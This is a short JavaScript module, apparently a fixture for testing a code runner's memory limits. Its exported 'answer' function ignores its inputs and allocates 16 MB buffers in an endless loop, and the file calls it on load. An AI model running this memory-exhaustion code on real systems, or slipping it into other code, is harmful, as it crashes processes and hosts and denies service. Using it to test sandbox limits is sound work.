// Takes all memory.
function answer(a, b) {
  const taken = [];
  for (;;) taken.push(Buffer.alloc(2 ** 24, 1));
}
module.exports = { answer };
answer(0, 0);
